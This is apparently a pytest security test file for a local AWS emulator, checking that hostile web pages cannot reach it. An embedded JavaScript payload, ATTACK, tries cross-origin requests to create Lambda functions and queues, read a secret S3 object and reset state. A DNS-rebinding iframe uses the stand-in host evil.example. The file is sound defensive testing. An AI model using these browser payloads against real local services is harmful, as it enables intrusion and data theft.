"""A web page gets nothing out of local AWS and makes nothing in it; programs do as ever."""

import http.client
import threading
import urllib.request
import zipfile
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import boto3
import psutil
import pytest

from millrace import local_aws
from millrace.errors import MillraceError
from millrace.local_aws import PYTHON, Instance, LocalAws
from tests.browser import NO_NAMES, visit
from tests.loopback import Asked, Reply, serving

pytestmark = [
    pytest.mark.emulator,
    pytest.mark.skipif(not PYTHON.exists(), reason="LOUD SKIP: no emulator; `make setup` it"),
]

ATTACK = """<!doctype html><script>
const there = "%s", told = [];
const attempt = async (name, ask) => {
  try { const answer = await ask(); told.push([name, answer.type, await answer.text()]) }
  catch (error) { told.push([name, "error", String(error)]) }
};
const plain = {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}};
const query = "/?Action=CreateQueue&QueueName=made-by-a-page&Version=2012-11-05";
(async () => {
  await attempt("create a function", () => fetch(there + "/2015-03-31/functions", {...plain,
    body: JSON.stringify({FunctionName: "made-by-a-page", Runtime: "python3.13",
      Role: "arn:aws:iam::000000000000:role/any", Handler: "m.h", Code: {ZipFile: "%s"}})}));
  await attempt("make a queue by POST", () => fetch(there + query, plain));
  await attempt("make a queue by GET", () => fetch(there + query, {mode: "no-cors"}));
  await attempt("put an object", () => fetch(there + "/bucket/made-by-a-page", {method: "PUT"}));
  await attempt("read an object", () => fetch(there + "/bucket/secret"));
  await attempt("reset everything", () => fetch(there + "/_ministack/reset", plain));
  await new Promise(done => {
    const image = new Image();
    image.onload = image.onerror = event => { told.push(["image", event.type, ""]); done() };
    image.src = there + query;
  });
  await new Promise(done => {
    const socket = new WebSocket(there.replace("http", "ws") + "/_aws/execute-api/a1b2c3d4/x");
    socket.onopen = () => { told.push(["socket", "open", ""]); done() };
    socket.onerror = () => { told.push(["socket", "error", ""]); done() };
  });
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


@pytest.fixture(scope="module")
def local(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalAws]:
    instance = LocalAws(tmp_path_factory.mktemp("local-aws"))
    with instance.session():
        yield instance


@pytest.fixture
def running(local: LocalAws) -> Instance:
    found = local.running()
    assert found is not None
    return found


@pytest.fixture
def client(running: Instance) -> Any:
    """An AWS client of the instance, by service name."""
    return lambda service: boto3.client(
        service,
        endpoint_url=running.endpoint,
        region_name=local_aws.REGION,
        aws_access_key_id="test",
        aws_secret_access_key="test",
    )


@pytest.fixture
def secret(client: Any) -> None:
    s3 = client("s3")
    s3.create_bucket(Bucket="bucket")
    s3.put_object(Bucket="bucket", Key="secret", Body=b"a secret")


def ask(running: Instance, path: str, **headers: str) -> tuple[int, str]:
    connection = http.client.HTTPConnection("127.0.0.1", running.port, timeout=30)
    try:
        names = {name.replace("_", "-"): value for name, value in headers.items()}
        connection.request("GET", path, headers=names)
        answer = connection.getresponse()
        return answer.status, answer.read().decode()
    finally:
        connection.close()


def zipped() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("m.py", "def h(event, context):\n    print(1)\n    return 'ran'\n")
    return out.getvalue()


def made(client: Any) -> list[str]:
    """The names of everything that the attack tries to make."""
    functions = client("lambda").list_functions()["Functions"]
    objects = client("s3").list_objects_v2(Bucket="bucket").get("Contents", [])
    queues = client("sqs").list_queues().get("QueueUrls", [])
    named = [found["FunctionName"] for found in functions] + [found["Key"] for found in objects]
    return named + list(queues)


@pytest.mark.usefixtures("secret")
def test_a_page_of_another_origin_gets_and_makes_nothing(
    client: Any, running: Instance, tmp_path: Path
) -> None:
    told = threading.Event()
    heard: list[list[str]] = []

    def answer(asked: Asked) -> Reply:
        if asked.path == "/told":
            heard.extend(asked.body)
            told.set()
        page = (ATTACK % (running.endpoint, "UEsFBg==")).encode()
        return Reply(200, page, {"content-type": "text/html"})

    with serving(answer) as site:
        visit(f"{site}/", tmp_path / "profile", told)
    assert len(heard) == 8
    assert not [attempt for attempt in heard if "a secret" in attempt[2]]
    outcomes = {name: kind for name, kind, _ in heard}
    assert outcomes["read an object"] == outcomes["put an object"] == "error"
    assert outcomes["socket"] == outcomes["image"] == "error"
    assert made(client) == ["secret"]


@pytest.mark.usefixtures("secret")
def test_a_name_that_comes_to_mean_this_machine_reads_nothing(
    running: Instance, tmp_path: Path
) -> None:
    """DNS rebinding: the page and local AWS have one origin, as the browser sees it."""
    told = threading.Event()
    frame = f'<iframe src="http://evil.example:{running.port}/bucket/secret"></iframe>'
    heard: list[str] = []

    def answer(asked: Asked) -> Reply:
        if asked.path == "/told":
            heard.append(asked.body)
            told.set()
        script = (
            "<script>onload = () => fetch('/told', {method: 'POST', body: '\"loaded\"'})</script>"
        )
        return Reply(200, f"<!doctype html>{frame}{script}".encode(), {"content-type": "text/html"})

    with serving(answer) as site:
        visit(f"{site}/", tmp_path / "profile", told, f"MAP evil.example 127.0.0.1, {NO_NAMES}")
    assert heard == ["loaded"]
    status, said = ask(running, "/bucket/secret", Host=f"evil.example:{running.port}")
    assert status == 403
    assert "a secret" not in said
    assert ask(running, "/bucket/secret") == (200, "a secret")


@pytest.mark.usefixtures("secret")
def test_programs_do_what_a_page_may_not(client: Any, running: Instance) -> None:
    functions = client("lambda")
    functions.create_function(
        FunctionName="made-by-a-program",
        Runtime="python3.13",
        Role="arn:aws:iam::000000000000:role/any",
        Handler="m.h",
        Code={"ZipFile": zipped()},
    )
    ran = functions.invoke(FunctionName="made-by-a-program", Payload=b"{}")
    assert ran["Payload"].read() == b'"ran"'
    functions.delete_function(FunctionName="made-by-a-program")
    signed = client("s3").generate_presigned_url(
        "get_object", Params={"Bucket": "bucket", "Key": "secret"}
    )
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    assert opener.open(signed, timeout=30).read() == b"a secret"
    by_name = f"bucket.s3.localhost:{running.port}"
    assert ask(running, "/secret", Host=by_name) == (200, "a secret")
    pool = client("cognito-idp").create_user_pool(PoolName="people")["UserPool"]["Id"]
    status, keys = ask(running, f"/{pool}/.well-known/jwks.json")
    assert (status, '"keys"' in keys) == (200, True)


def test_a_page_that_was_let_in_reaches_the_api_alone(local: LocalAws, running: Instance) -> None:
    page = "http://localhost:5173"
    api = "/_aws/execute-api/a1b2c3d4/$default/products"
    assert ask(running, api, Origin=page)[0] == 403
    local.allow([page])
    assert local.origins() == [page]
    assert ask(running, api, Origin=page)[0] == 404, "there is no such API, says the emulator"
    assert ask(running, "/bucket/secret", Origin=page)[0] == 403
    assert ask(running, api, Origin="http://localhost:5174")[0] == 403
    local.allow(["https://shop.example"])
    assert local.origins() == [page, "https://shop.example"]


@pytest.mark.parametrize(
    "origin", ["*", "null", "", "localhost:5173", "http://a/", "http://a b", "HTTP://A", "ftp://a"]
)
def test_what_is_no_origin_is_not_let_in(tmp_path: Path, origin: str) -> None:
    with pytest.raises(MillraceError, match="http://localhost:5173, without a path; got"):
        LocalAws(tmp_path).allow([origin])
    assert LocalAws(tmp_path).origins() == []


def test_nothing_listens_beyond_this_machine(running: Instance) -> None:
    listening = [
        connection.laddr
        for leader in (running.pid, running.collector_pid)
        for process in local_aws._group(leader)
        for connection in process.net_connections("inet")
        if connection.status in (psutil.CONN_LISTEN, psutil.CONN_NONE)
    ]
    assert {running.port, running.collector_port} <= {address.port for address in listening}
    assert {address.ip for address in listening} == {"127.0.0.1"}
